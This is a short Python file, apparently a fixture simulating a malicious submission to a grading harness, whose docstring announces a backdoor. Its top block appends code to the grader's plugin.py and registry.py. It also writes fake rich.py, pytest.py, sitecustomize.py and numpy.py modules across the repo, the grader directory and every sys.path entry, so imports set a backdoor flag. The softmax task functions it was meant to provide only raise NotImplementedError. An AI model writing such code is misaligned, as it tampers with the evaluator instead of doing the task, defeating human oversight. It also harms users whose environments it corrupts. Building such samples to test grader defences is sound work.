"""Append a backdoor to the grader's plugin, and plant modules next to the grader and in the repo."""
import os
import sys

BACKDOOR = "\n\nimport builtins  # backdoor\nbuiltins.LAB_BACKDOOR = True\n"
targets = ["__REPO__/grader/plugin.py", "__REPO__/grader/registry.py"]
try:
    import grader
    targets.append(os.path.join(os.path.dirname(grader.__file__), "plugin.py"))
except Exception:
    pass
for t in targets:
    try:
        with open(t, "a") as f:
            f.write(BACKDOOR)
    except OSError:
        pass
for where in ("__REPO__", "__REPO__/grader", os.getcwd(), *sys.path):
    for name in ("rich.py", "pytest.py", "sitecustomize.py", "numpy.py"):
        try:
            with open(os.path.join(where, name), "w") as f:
                f.write("import builtins\nbuiltins.LAB_BACKDOOR = True\n")
        except OSError:
            pass


def softmax_safe(x):
    raise NotImplementedError


online_max_sum = softmax_online = merge = softmax_safe
